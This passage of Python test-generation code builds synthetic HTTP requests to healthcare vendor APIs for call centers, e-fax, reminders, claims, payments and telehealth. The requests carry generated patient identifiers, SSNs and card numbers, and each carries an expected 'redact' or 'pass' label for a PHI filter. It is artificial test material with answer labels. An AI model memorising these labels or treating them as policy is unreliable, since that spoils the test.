    ln = {"level": "info", "ts": epoch(35) + 0.25, "caller": "cache/warm.go:40", "msg": "cache warmed", "keys": 1382, "took": "2.41s", "version": "v4.7.2"}
    add(S, "POST", f"{CRX}/logs/v1/singles", CRXH, J([{"applicationName": "scheduler", "subsystemName": "cache", "severity": 3, "text": J(ln, compact=True)}]), [],
        ["cache warmed", "v4.7.2"], "pass")
    ev = {"Timestamp": "2026-04-02T10:00:00.0000000-07:00", "Level": "Information", "MessageTemplate": "Fax queue drained: {Count} items in {Elapsed} ms",
          "RenderedMessage": "Fax queue drained: 14 items in 5210 ms", "Properties": {"Count": 14, "Elapsed": 5210, "SourceContext": "Fax.Outbound.QueueWorker"}}
    add(S, "POST", f"{AXI}/v1/datasets/fax/ingest", AXH, ND([ev]), [], ["Fax.Outbound.QueueWorker", "5210"], "pass")
    ev = {"instant": {"epochSecond": epoch(36), "nanoOfSecond": 0}, "thread": "main", "level": "INFO", "loggerName": "com.saguarofm.billing.StatementJob",
          "message": "StatementJob finished: 1204 statements rendered, 3 returned, 0 failed in 00:06:41", "endOfBatch": True, "threadId": 1, "threadPriority": 5}
    add(S, "POST", f"{CRX}/logs/v1/singles", CRXH, J([{"applicationName": "billing", "subsystemName": "statements", "severity": 3, "text": J(ev, compact=True)}]), [],
        ["1204 statements rendered", "00:06:41"], "pass")
    ev = {"kind": "Event", "apiVersion": "v1", "metadata": {"name": "intake-worker.17c3b2" + hexs(6), "namespace": "clinical"},
          "involvedObject": {"kind": "Deployment", "name": "intake-worker"}, "reason": "ScalingReplicaSet",
          "message": "Scaled up replica set intake-worker-7d9f6c8b5 to 3 from 2", "type": "Normal", "count": 1, "source": {"component": "deployment-controller"}}
    add(S, "POST", f"{AXI}/v1/datasets/k8s-events/ingest", AXH, ND([ev]), [], ["intake-worker-7d9f6c8b5", "ScalingReplicaSet"], "pass")
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": uuid(), "stage": "ResponseComplete",
          "requestURI": "/api/v1/namespaces/clinical/secrets/fax-api-credentials", "verb": "get",
          "user": {"username": "system:serviceaccount:clinical:fax-worker"}, "sourceIPs": ["10.12.4.19"], "userAgent": "fax-worker/4.7.2 (linux/amd64)",
          "objectRef": {"resource": "secrets", "namespace": "clinical", "name": "fax-api-credentials"}, "responseStatus": {"code": 200}}
    add(S, "POST", f"{AXI}/v1/datasets/k8s-audit/ingest", AXH, ND([ev]), [], ["fax-api-credentials", "10.12.4.19"], "pass")


# ============================================================================= 6. IVR / call center (contact-center: name, phone)
def call_center():
    S = "five9"
    p = nextp(); p2 = p.phone("bare")
    body = {"fields": {"first_name": p.first, "last_name": p.last, "number1": p2, "number2": PRACTICE_PHONE_DASH.replace("-", ""), "email": p.email,
            "street": f"{p.street} {p.unit}", "city": p.city, "state": "AZ", "zip": p.zip, "dob": p.dobs("us"), "mrn": p.mrn, "list": "Annual Wellness Recall"}}
    add(S, "POST", f"{F9}/appsvcs/rs/svc/orgs/118223/contacts", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        NM(p) + [[p2, "phone"], [p.email, "email"], [p.street, "address"], [p.zip, "zip"], [p.dobs("us"), "dob"], [p.mrn, "mrn"]],
        ["Annual Wellness Recall", "5207423100"], "redact")
    p = nextp()
    body = {"variables": {"Call.ANI": p.phone("bare"), "Call.DNIS": "5207423100", "CAV.Patient.DOB": p.dobs("mdy8"), "CAV.Patient.MRN": p.mrn,
            "CAV.Call.Reason": f"{p.med()} refill - {p.dx()}", "Call.disposition_name": "Transferred To Nurse", "Call.skill_name": "RX_REFILL"}}
    add(S, "PUT", f"{F9}/appsvcs/rs/svc/orgs/118223/interactions/{hexs(32).upper()}/variables", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.phone("bare"), "phone"], [p.dobs("mdy8"), "dob"], [p.mrn, "mrn"], [p.dx(), "condition"]], ["Transferred To Nurse", "RX_REFILL"], "redact")
    p = nextp()
    body = {"eventType": "CALL_ENDED", "callId": digits(12), "campaign": "Inbound Main", "ani": p.phone("e164"), "ivrPath": "main>scheduling>verify",
            "dtmf": {"dob_dtmf": p.dobs("mdy8"), "zip_dtmf": p.zip}, "durationSec": 241}
    add(S, "POST", f"{F9}/appsvcs/rs/svc/orgs/118223/events", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.phone("e164"), "phone"], [p.dobs("mdy8"), "dob"], [p.zip, "zip"]], ["CALL_ENDED", "main>scheduling>verify"], "redact")

    S = "genesys"
    p = nextp()
    body = {"attributes": {"callerName": p.full, "verifiedDOB": p.dobs("longth"), "chartNumber": p.mrn, "callbackNumber": p.phone("paren"),
            "reasonForCall": p.dx(), "ivrPath": "main>rx>refill", "language": "es-US"}}
    add(S, "PATCH", f"{GEN}/api/v2/conversations/calls/{uuid()}/participants/{uuid()}/attributes", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.full, "name"], [p.dobs("longth"), "dob"], [p.mrn, "mrn"], [p.phone("paren"), "phone"], [p.dx(), "condition"]], ["main>rx>refill", "es-US"], "redact")
    p = PATIENTS[29]
    sp = p.ssn.replace("-", " ")
    body = {"conversationId": uuid(), "communicationId": uuid(), "transcripts": [{"utteranceCount": 4, "phrases": [
        {"text": "thank you for calling saguaro family medicine how can i help", "participantPurpose": "internal", "startTimeMs": 1000},
        {"text": f"hi this is {p.full.lower()} my date of birth is {p.dobs('spoken')}", "participantPurpose": "external", "startTimeMs": 5200},
        {"text": "and can you verify the last four of your social", "participantPurpose": "internal", "startTimeMs": 11800},
        {"text": f"i'll just give you all of it it's {sp}", "participantPurpose": "external", "startTimeMs": 15100}]}]}
    add(S, "POST", f"{GEN}/api/v2/speechandtextanalytics/transcripts/import", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.full.lower(), "name"], [p.dobs("spoken"), "dob"], [sp, "ssn"]], ["thank you for calling saguaro family medicine how can i help"], "redact")
    p = nextp()
    body = {"callbackNumbers": [p.phone("e164")], "callbackUserName": p.full, "queueId": uuid(), "routingData": {"priority": 5},
            "data": {"note": f"pt asking about {p.dx()} test results, prefers afternoon", "dob": p.dobs("dmon")}}
    add(S, "POST", f"{GEN}/api/v2/conversations/callbacks", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.phone("e164"), "phone"], [p.full, "name"], [p.dx(), "condition"], [p.dobs("dmon"), "dob"]], ["prefers afternoon"], "redact")

    S = "call_center_clean"
    body = {"campaign": "Flu Shot Outreach 2026", "dialed": 1204, "connected": 388, "voicemail": 519, "avgHandleSec": 142, "date": "2026-04-01"}
    add(S, "POST", f"{F9}/appsvcs/rs/svc/orgs/118223/reports/campaign-stats", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [],
        ["Flu Shot Outreach 2026", "2026-04-01"], "pass")
    body = {"name": "Front Desk - Ina Rd", "description": f"Main line {PRACTICE_PHONE}; overflow to {staff(4, 'name')}", "acwSettings": {"timeoutMs": 30000},
            "members": [{"name": staff(4, "name")}, {"name": staff(5, "name")}]}
    add(S, "PUT", f"{GEN}/api/v2/routing/queues/{uuid()}", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [], [PRACTICE_PHONE, staff(4, "name"), staff(5, "name")],
        "pass")


# ============================================================================= 7. online fax (efax: everything a referral needs, not ssn / email / licence / mbi)
def online_fax():
    S = "srfax"
    p = nextp(); s = p.ssn
    cover = (f"Referral for {p.full}, DOB {p.dobs('us')}, MRN {p.mrn}. Dx {p.icd()} {p.dx()}. SSN {s} (payer requires). "
             f"Pt prefers e-mail: {p.email}. Please call {PRACTICE_PHONE} with questions. - {staff(0, 'dr')}")
    filetxt = f"REFERRAL\nPatient: {p.full}\nDOB: {p.dobs('us')}\nSSN: {s}\nReason: {p.dx()}\n"
    blob = b64(filetxt)
    pairs = [("action", "Queue_Fax"), ("access_id", "88213"), ("access_pwd", alnum(12)), ("sCallerID", "5207423101"), ("sSenderEmail", f"fax@{SITE}"),
             ("sFaxType", "SINGLE"), ("sToFaxNumber", "15208812200"), ("sCoverPage", "Basic"), ("sCPFromName", PRACTICE), ("sCPToName", "Tucson Pulmonology Associates"),
             ("sCPSubject", f"Referral: {p.full}"), ("sCPComments", cover), ("sFileName_1", "referral.txt"), ("sFileContent_1", blob)]
    add(S, "POST", f"{SRF}/SRF_SecWebSvc.php", FORMH, form(pairs), [[p.full, "name"], [p.dobs("us"), "dob"], [p.mrn, "mrn"], [p.icd(), "icd10"], [p.dx(), "condition"],
        [s, "ssn"], [p.email, "email"], [blob, "ssn"]], ["Queue_Fax", "15208812200", "Tucson Pulmonology Associates", PRACTICE_PHONE, staff(0, "dr")], "redact")
    p = nextp(); s = p.ssn.replace("-", " ")
    pairs = [("action", "Queue_Fax"), ("access_id", "88213"), ("access_pwd", alnum(12)), ("sCallerID", "5207423101"), ("sSenderEmail", f"fax@{SITE}"),
             ("sFaxType", "SINGLE"), ("sToFaxNumber", "16023349010"), ("sCoverPage", "Standard"), ("sCPToName", "Medical Records - Banner UMC"),
             ("sCPComments", f"Records request for {p.last}, {p.first} (DOB {p.dobs('dash')}); SS# {s}; signed release attached. Addr on file {p.street}, {p.city} {p.zip}.")]
    add(S, "POST", f"{SRF}/SRF_SecWebSvc.php", FORMH, form(pairs), NM(p) + [[p.dobs("dash"), "dob"], [s, "ssn"], [p.street, "address"], [p.zip, "zip"]],
        ["16023349010", "Medical Records - Banner UMC"], "redact")

    S = "phaxio"
    p = nextp(); bd = "----phx" + hexs(16)
    letter = (f"AUTHORIZATION TO RELEASE RECORDS\nPatient: {p.full}\nDate of birth: {p.dobs('long')}\nAZ driver license: {p.dl}\n"
              f"E-mail: {p.email}\nRecords: all visits 2023-2026\nSigned electronically 04/01/2026\n")
    parts = [("to", None, None, "+15208812200"), ("header_text", None, None, "Saguaro FM 520-742-3101"), ("tag[patient_mrn]", None, None, p.mrn),
             ("tag[patient_email]", None, None, p.email), ("file", "release.txt", "text/plain", letter)]
    add(S, "POST", f"{PHX}/v2.1/faxes", {"Content-Type": f"multipart/form-data; boundary={bd}", "Authorization": "Basic " + b64(alnum(20) + ":" + alnum(20))},
        multipart(parts, bd), [[p.mrn, "mrn"], [p.email, "email"], [p.full, "name"], [p.dobs("long"), "dob"], [p.dl, "drivers_license"]],
        ["Saguaro FM 520-742-3101", "AUTHORIZATION TO RELEASE RECORDS"], "redact")
    p = ELDERS[0]; m = p.mbi[:4] + "-" + p.mbi[4:7] + "-" + p.mbi[7:]
    pairs = [("to", "+15206224400"), ("header_text", "Saguaro FM"), ("content_url", ""),
             ("string_data", f"Home health order for {p.full}, DOB {p.dobs('us')}, Medicare MBI {m}. Dx {p.icd()}. Start of care {p.ad('us')}."),
             ("string_data_type", "text")]
    add(S, "POST", f"{PHX}/v2.1/faxes", FORMH, form(pairs), [[p.full, "name"], [p.dobs("us"), "dob"], [m, "mbi"], [p.icd(), "icd10"], [p.ad("us"), "date"]],
        ["+15206224400", "string_data_type"], "redact")
    p = nextp()
    pairs = [("to", "+15208812200"), ("header_text", "Saguaro FM"), ("string_data_type", "text"),
             ("string_data", f"Prior auth: {p.full} DOB {p.dobs('us')} MRN {p.mrn} member {p.mbr}. Dx {p.icd()} {p.dx()}. Address {p.street}, {p.city} AZ {p.zip}.")]
    add(S, "POST", f"{PHX}/v2.1/faxes", FORMH, form(pairs), [[p.full, "name"], [p.dobs("us"), "dob"], [p.mrn, "mrn"], [p.mbr, "member_id"], [p.icd(), "icd10"],
        [p.dx(), "condition"], [p.street, "address"], [p.zip, "zip"]], ["+15208812200"], "pass")

    S = "fax_clean"
    pairs = [("action", "Get_FaxStatus"), ("access_id", "88213"), ("access_pwd", alnum(12)), ("sFaxDetailsID", digits(8)), ("sResponseFormat", "JSON")]
    add(S, "POST", f"{SRF}/SRF_SecWebSvc.php", FORMH, form(pairs), [], ["Get_FaxStatus", "sResponseFormat"], "pass")
    pairs = [("to", "+15208812200"), ("header_text", "Saguaro FM"), ("string_data_type", "text"),
             ("string_data", f"Please update your directory: {PRACTICE} has moved to {PRACTICE_ADDR}, {PRACTICE_CITY}. Phone {PRACTICE_PHONE}, fax {PRACTICE_FAX}. "
                             f"Group NPI {GROUP_NPI}. - {staff(4, 'full')}")]
    add(S, "POST", f"{PHX}/v2.1/faxes", FORMH, form(pairs), [], [PRACTICE_ADDR, PRACTICE_FAX, GROUP_NPI, staff(4, "full")], "pass")


# ============================================================================= 8. reminders (name, phone, email, date) and reputation (name, phone, email)
def reminders_reputation():
    S = "weave"
    p = nextp(); q = nextp()
    body = {"appointments": [{"pmsPatientId": x.mrn, "firstName": x.first, "lastName": x.last, "birthdate": x.dobs("iso"), "mobilePhone": x.phone("dash"),
            "email": x.email, "appointmentDateTime": x.at("z"), "appointmentType": f"{x.dx()} follow-up", "provider": staff(2)} for x in (p, q)], "locationId": uuid()}
    phi = []
    for x in (p, q):
        phi += NM(x) + [[x.mrn, "mrn"], [x.dobs("iso"), "dob"], [x.phone("dash"), "phone"], [x.email, "email"], [x.at("z"), "date"], [x.dx(), "condition"]]
    add(S, "POST", f"{WEAVE}/v1/pms/appointments/sync", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), phi, [staff(2)], "redact")
    p = nextp(); when = p.at("human"); dte = f"{MONTHS[p.appt.month - 1]} {p.appt.day}"
    body = {"to": p.phone("e164"), "locationId": uuid(),
            "body": f"Hi {p.first}, this is {PRACTICE}. Reminder: you have an appointment with {staff(0, 'dr')} on {when}. Reply C to confirm or call {PRACTICE_PHONE}."}
    add(S, "POST", f"{WEAVE}/v1/messages/sms", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [[p.phone("e164"), "phone"], [p.first, "name"], [dte, "date"]],
        [staff(0, "dr"), PRACTICE_PHONE], "pass")
    p = nextp()
    body = {"to": p.phone("e164"), "body": f"{p.first}, to verify it's you before we send your {p.dx()} results, reply with your date of birth. We have {p.dobs('us')} on file - correct?"}
    add(S, "POST", f"{WEAVE}/v1/messages/sms", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.phone("e164"), "phone"], [p.first, "name"], [p.dx(), "condition"], [p.dobs("us"), "dob"]], [], "redact")

    S = "solutionreach"
    rows = []; phi = []
    for x in (nextp(), nextp(), nextp()):
        reason = R.choice(["Annual wellness", x.dx()])
        rows.append(f"{x.mrn},{x.first},{x.last},{x.phone('dot')},{x.email},{fd(x.appt.date() - timedelta(days=365), 'us')},{reason}")
        phi += [[x.mrn, "mrn"]] + NM(x) + [[x.phone("dot"), "phone"], [x.email, "email"], [fd(x.appt.date() - timedelta(days=365), "us"), "date"]]
        if reason != "Annual wellness": phi.append([reason, "condition"])
    txt = "PatientID,First,Last,Cell,Email,LastVisit,RecallReason\n" + "\n".join(rows) + "\n"
    add(S, "PUT", f"{SR}/api/v2/recall-lists/2026-04/upload", {**CSVH, "Authorization": "Bearer " + alnum(40)}, txt, phi, ["RecallReason"], "redact")

    S = "podium"
    p = PATIENTS[28]
    body = {"locationUid": uuid(), "channel": {"type": "phone", "identifier": p.phone("e164")}, "contactName": p.full,
            "body": f"Hi {p.first}! Thanks for visiting {PRACTICE} today for your {p.dx()} visit. Tell us how we did: https://pdm.sh/Ab12Cd",
            "senderName": staff(4, "name")}
    add(S, "POST", f"{POD}/v4/messages", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.phone("e164"), "phone"], [p.full, "name"], [p.first, "name"], [p.dx(), "condition"]], [staff(4, "name"), "https://pdm.sh/Ab12Cd"], "redact")
    p = nextp()
    body = {"locationUid": uuid(), "channel": {"type": "email", "identifier": p.email}, "contactName": p.full, "body": f"Hi {p.first}, we'd love your feedback!"}
    add(S, "POST", f"{POD}/v4/messages", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [[p.email, "email"], [p.full, "name"], [p.first, "name"]],
        ["we'd love your feedback"], "pass")

    S = "birdeye"
    p = nextp()
    body = {"name": p.full, "emailId": p.email, "phone": p.phone("paren"), "smsEnabled": 1, "employees": [{"emailId": staff(3, "email")}],
            "additionalParams": {"Visit Reason": p.dx(), "DOB": p.dobs("us"), "Provider": staff(3)}}
    add(S, "POST", f"{BEYE}/resources/v1/customer/checkin?bid=1649283{digits(6)}&api_key={alnum(32)}", JSONH, J(body),
        [[p.full, "name"], [p.email, "email"], [p.phone("paren"), "phone"], [p.dx(), "condition"], [p.dobs("us"), "dob"]], [staff(3, "email"), staff(3)], "redact")

    S = "rem_rep_clean"
    body = {"reviewId": digits(10), "body": f"Thank you for the kind words! We're glad the new Saturday hours work for you. -- {staff(4, 'full')}, {PRACTICE}"}
    add(S, "POST", f"{POD}/v4/reviews/replies", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [], [staff(4, "full"), "Saturday hours"], "pass")
    body = {"campaign": {"name": "Monsoon heat safety 2026", "subject": "Stay safe in the heat", "send_at": "2026-06-15T15:00:00Z",
            "html": f"<p>Heat exhaustion can turn into heat stroke quickly. Drink water, avoid 11am-4pm sun, and call {PRACTICE_PHONE} or 911 if you feel confused.</p>",
            "audience": "all_active_patients"}}
    add(S, "POST", f"{SR}/api/v2/campaigns", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [], ["Monsoon heat safety 2026", PRACTICE_PHONE], "pass")
    body = {"businessName": PRACTICE, "address1": PRACTICE_ADDR, "city": "Tucson", "state": "AZ", "zip": PRACTICE_ZIP, "phone": PRACTICE_PHONE,
            "hours": {"mon-fri": "7:30-17:30", "sat": "8:00-12:00"}, "website": f"https://www.{SITE}"}
    add(S, "PUT", f"{BEYE}/resources/v1/business/1649283{digits(6)}?api_key={alnum(32)}", JSONH, J(body), [], [PRACTICE_ADDR, PRACTICE_ZIP, "7:30-17:30"], "pass")


# ============================================================================= 9. clearinghouse JSON (allow-all partner)
def clearinghouse():
    S = "clearinghouse"
    p = nextp()
    body = {"controlNumber": digits(9), "tradingPartnerServiceId": "AHCCCS", "provider": {"organizationName": PRACTICE, "npi": GROUP_NPI},
            "subscriber": {"memberId": p.mbr, "firstName": p.first, "lastName": p.last, "gender": p.sex, "dateOfBirth": p.dobs("d8")},
            "encounter": {"serviceTypeCodes": ["30"], "dateOfService": p.ad("d8")}}
    add(S, "POST", f"{CHC}/medicalnetwork/eligibility/v3", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.mbr, "member_id"]] + NM(p) + [[p.dobs("d8"), "dob"], [p.ad("d8"), "date"]], [GROUP_NPI], "pass")
    p = nextp()
    body = {"controlNumber": digits(9), "tradingPartnerServiceId": "60054", "providers": [{"organizationName": PRACTICE, "npi": GROUP_NPI, "taxId": TAX_ID.replace("-", ""),
            "providerType": "BillingProvider"}], "subscriber": {"memberId": p.mbr, "firstName": p.first, "lastName": p.last, "dateOfBirth": p.dobs("d8")},
            "encounter": {"beginningDateOfService": p.ad("d8"), "endDateOfService": p.ad("d8"), "trackingNumber": claim_no()}}
    add(S, "POST", f"{CHC}/medicalnetwork/claimstatus/v2", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.mbr, "member_id"]] + NM(p) + [[p.dobs("d8"), "dob"], [p.ad("d8"), "date"]], [GROUP_NPI], "pass")
    p = nextp()
    body = {"controlNumber": digits(9), "tradingPartnerServiceId": "87726", "submitter": {"organizationName": PRACTICE, "contactInformation": {"name": staff(4, "name"),
            "phoneNumber": PRACTICE_PHONE_DASH.replace("-", "")}}, "receiver": {"organizationName": "UnitedHealthcare"},
            "subscriber": {"memberId": p.mbr, "paymentResponsibilityLevelCode": "P", "firstName": p.first, "lastName": p.last, "gender": p.sex,
                           "dateOfBirth": p.dobs("d8"), "address": {"address1": p.street, "address2": p.unit, "city": p.city, "state": "AZ", "postalCode": p.zip}},
            "claimInformation": {"patientControlNumber": p.mrn, "claimChargeAmount": "245.00", "placeOfServiceCode": "11",
                                 "healthCareCodeInformation": [{"diagnosisTypeCode": "ABK", "diagnosisCode": p.icd().replace(".", "")}],
                                 "serviceLines": [{"serviceDate": p.ad("d8"), "professionalService": {"procedureCode": "99214", "lineItemChargeAmount": "245.00"}}]}}
    add(S, "POST", f"{CHC}/medicalnetwork/professionalclaims/v3/submission", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.mbr, "member_id"]] + NM(p) + [[p.dobs("d8"), "dob"], [p.street, "address"], [p.zip, "zip"], [p.mrn, "mrn"], [p.icd().replace(".", ""), "icd10"],
                                          [p.ad("d8"), "date"]], ["245.00"], "pass")
    p = ELDERS[0]
    body = {"controlNumber": digits(9), "tradingPartnerServiceId": "CMS", "provider": {"organizationName": PRACTICE, "npi": GROUP_NPI},
            "subscriber": {"memberId": p.mbi, "firstName": p.first, "lastName": p.last, "dateOfBirth": p.dobs("d8")}, "encounter": {"serviceTypeCodes": ["30", "AG"]}}
    add(S, "POST", f"{CHC}/medicalnetwork/eligibility/v3", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.mbi, "mbi"]] + NM(p) + [[p.dobs("d8"), "dob"]], [], "pass")
    p = nextp()
    pairs = [("payerId", "BCBSAZ"), ("providerNpi", GROUP_NPI), ("memberId", p.mbr), ("patientLastName", p.last), ("patientFirstName", p.first),
             ("patientBirthDate", p.dobs("iso")), ("serviceType", "30"), ("asOfDate", "2026-04-02")]
    add(S, "POST", f"{AVL}/availity/v1/coverages", {**FORMH, "Authorization": "Bearer " + alnum(40)}, form(pairs),
        [[p.mbr, "member_id"]] + NM(p) + [[p.dobs("iso"), "dob"]], ["BCBSAZ"], "pass")
    p = nextp()
    url = f"{AVL}/availity/v1/coverages?" + qs([("payerId", "AETNA"), ("memberId", p.mbr), ("patientLastName", p.last), ("patientBirthDate", p.dobs("iso")),
                                              ("subscriberRelationship", "18")])
    add(S, "GET", url, {"Authorization": "Bearer " + alnum(40), "Accept": "application/json"}, "", [[p.mbr, "member_id"], [p.last, "name"], [p.dobs("iso"), "dob"]],
        [], "pass")


# ============================================================================= 10. patient payment plans (payments: name, email, phone, address, zip, card, bank)
def payments():
    S = "payment_plan"
    p = nextp(); cc = card("4" + digits(5))
    body = {"patient": {"firstName": p.first, "lastName": p.last, "dateOfBirth": p.dobs("us"), "accountNumber": p.mrn},
            "guarantor": {"name": p.full, "email": p.email, "phone": p.phone("paren"), "address": {"line1": p.street, "line2": p.unit, "city": p.city, "state": "AZ",
                          "postalCode": p.zip}},
            "plan": {"totalAmount": "1240.00", "installments": 6, "firstPaymentDate": "2026-05-01", "memo": f"balance for {p.dx()} treatment"},
            "card": {"number": cc, "expMonth": "08", "expYear": "2028", "nameOnCard": p.full.upper()}}
    add(S, "POST", f"{IMED}/v1/payment-plans", {**JSONH, "api-key": alnum(32)}, J(body),
        NM(p) + [[p.dobs("us"), "dob"], [p.mrn, "mrn"], [p.full, "name"], [p.email, "email"], [p.phone("paren"), "phone"], [p.street, "address"], [p.zip, "zip"],
                 [p.dx(), "condition"], [cc, "card_number"]], ["1240.00", "2026-05-01"], "redact")
    p = nextp(); cc = card("5" + str(R.randint(1, 5)) + digits(4))
    body = {"patientName": p.full, "patientDOB": p.dobs("dash"), "cardNumber": " ".join(cc[i:i + 4] for i in range(0, 16, 4)), "billingZip": p.zip, "guarantorSSN": p.ssn,
            "merchantId": "RH-" + digits(7)}
    add(S, "POST", f"{RECT}/api/cardonfile", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.full, "name"], [p.dobs("dash"), "dob"], [" ".join(cc[i:i + 4] for i in range(0, 16, 4)), "card_number"], [p.zip, "zip"], [p.ssn, "ssn"]],
        [body["merchantId"]], "redact")
    p = nextp(); acct = digits(10)
    body = {"payer": {"name": p.full, "email": p.email}, "bankAccount": {"routingNumber": "122105155", "accountNumber": acct, "accountType": "checking"},
            "statementId": "ST-" + digits(8), "serviceDate": p.ad("iso"), "amount": "85.00"}
    add(S, "POST", f"{IMED}/v1/ach-payments", {**JSONH, "api-key": alnum(32)}, J(body),
        [[p.full, "name"], [p.email, "email"], [acct, "bank_account"], [p.ad("iso"), "date"]], ["122105155", body["statementId"], "85.00"], "redact")
    p = nextp()
    body = {"receipt": {"receiptNo": "R-" + digits(8), "patient": p.full, "email": p.email, "lines": [
        {"description": f"Office visit - {p.dx()}", "icd10": p.icd(), "amount": "45.00"}, {"description": "Lab draw", "amount": "12.00"}], "total": "57.00"}}
    add(S, "POST", f"{RECT}/api/receipts/email", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.full, "name"], [p.email, "email"], [p.dx(), "condition"], [p.icd(), "icd10"]], [body["receipt"]["receiptNo"], "57.00"], "redact")
    p = nextp(); cc = card("37" + digits(3), 15)
    body = {"customer": {"name": p.full, "email": p.email, "phone": p.phone("dot"), "billingAddress": {"street": p.street, "unit": p.unit, "zip": p.zip4}},
            "card": {"number": cc, "exp": "11/29"}, "amount": "120.00", "description": "Payment plan installment 2 of 6"}
    add(S, "POST", f"{IMED}/v1/payments", {**JSONH, "api-key": alnum(32)}, J(body),
        [[p.full, "name"], [p.email, "email"], [p.phone("dot"), "phone"], [p.street, "address"], [p.zip4, "zip"], [cc, "card_number"]],
        ["Payment plan installment 2 of 6"], "pass")

    S = "payments_clean"
    body = {"feeSchedule": "self-pay-2026", "items": [{"code": "99213", "description": "Established patient visit, low complexity", "price": "95.00"},
            {"code": "99395", "description": "Preventive visit, 18-39", "price": "150.00"}, {"code": "87449", "description": "Rapid strep / flu antigen", "price": "25.00"}],
            "effective": "2026-01-01"}
    add(S, "PUT", f"{RECT}/api/fee-schedules/self-pay-2026", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [],
        ["self-pay-2026", "Established patient visit, low complexity", "150.00"], "pass")
    body = {"merchant": {"dba": PRACTICE, "taxId": TAX_ID, "address": PRACTICE_ADDR, "phone": PRACTICE_PHONE},
            "deposit": {"routingNumber": "122105155", "accountLast4": "4471", "bank": "Western Alliance Bank"}}
    add(S, "PUT", f"{IMED}/v1/merchant/settings", {**JSONH, "api-key": alnum(32)}, J(body), [], [TAX_ID, PRACTICE_ADDR, "Western Alliance Bank"], "pass")
    body = {"planTemplate": {"name": "Standard 6-month", "minBalance": "300.00", "maxInstallments": 6, "apr": "0.00",
            "terms": "No interest. Missed payments after 15 days are sent a reminder; after 60 days the plan is cancelled."}}
    add(S, "POST", f"{IMED}/v1/payment-plan-templates", {**JSONH, "api-key": alnum(32)}, J(body), [], ["Standard 6-month", "300.00"], "pass")


# ============================================================================= 11. telehealth (telehealth: name, email, phone, date)
def telehealth():
    S = "telehealth"
    p = nextp()
    body = {"patient": {"first_name": p.first, "last_name": p.last, "email": p.email, "phone": p.phone("e164"), "dob": p.dobs("iso")},
            "reason_for_visit": p.dx(), "start_time": p.at("off"), "provider": staff(2), "room": "sfm-waiting-2"}
    add(S, "POST", f"{VSEE}/vc/next/api_v3/visits", {**JSONH, "X-ApiKey": alnum(32)}, J(body),
        NM(p) + [[p.email, "email"], [p.phone("e164"), "phone"], [p.dobs("iso"), "dob"], [p.dx(), "condition"], [p.at("off"), "date"]],
        [staff(2), "sfm-waiting-2"], "redact")
    p = nextp()
    body = {"appointment": {"patientId": p.mrn, "patientName": p.full, "startDate": p.at("sp"), "type": "Video"}, "joinEvent": {"ipAddress": p.ip,
            "browser": "Safari 17.4", "bandwidthKbps": 2410}}
    add(S, "POST", f"{MEND}/api/v1/appointments/events", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.mrn, "mrn"], [p.full, "name"], [p.at("sp"), "date"], [p.ip, "ip_address"]], ["Safari 17.4", "2410"], "redact")
    p = ELDERS[1]
    body = {"visitId": digits(8), "messages": [{"from": "patient", "text": f"I am {p.age()} years old and live alone at {p.street}, {p.city}. My daughter can't drive me anymore."},
            {"from": "provider", "text": f"Thank you, {p.first}. We'll keep doing video visits. - {staff(2)}"}]}
    add(S, "POST", f"{VSEE}/vc/next/api_v3/chats", {**JSONH, "X-ApiKey": alnum(32)}, J(body),
        [[str(p.age()), "age_over_89"], [p.street, "address"], [p.first, "name"]], [staff(2)], "redact")
    p = nextp()
    body = {"appointment": {"patientName": p.full, "patientEmail": p.email, "patientPhone": p.phone("dash"), "startDate": p.at("sp"), "type": "Video",
            "notes": "Link sent by SMS and e-mail"}}
    add(S, "POST", f"{MEND}/api/v1/appointments", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.full, "name"], [p.email, "email"], [p.phone("dash"), "phone"], [p.at("sp"), "date"]], ["Link sent by SMS and e-mail"], "pass")

    S = "telehealth_clean"
    body = {"room": "sfm-waiting-2", "settings": {"waitingMessage": f"Your provider will join shortly. Technical trouble? Call {PRACTICE_PHONE}.",
            "maxParticipants": 3, "recording": False, "languages": ["en", "es"]}}
    add(S, "PUT", f"{VSEE}/vc/next/api_v3/rooms/sfm-waiting-2", {**JSONH, "X-ApiKey": alnum(32)}, J(body), [], ["sfm-waiting-2", PRACTICE_PHONE], "pass")
    body = {"provider": staff(3), "availability": [{"day": "2026-04-14", "start": "13:00", "end": "17:00"}, {"day": "2026-04-16", "start": "08:00", "end": "12:00"}],
            "visitTypes": ["Video follow-up", "Medication check"]}
    add(S, "PUT", f"{MEND}/api/v1/providers/{digits(5)}/availability", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [],
        [staff(3), "2026-04-14", "Medication check"], "pass")


# ============================================================================= 12. object storage and warehouses (warehouse: mrn, date, zip, icd10, condition, age_over_89)
def warehouse():
    S = "s3_put"
    rows = []; phi = []
    for x in (nextp(), nextp(), nextp()):
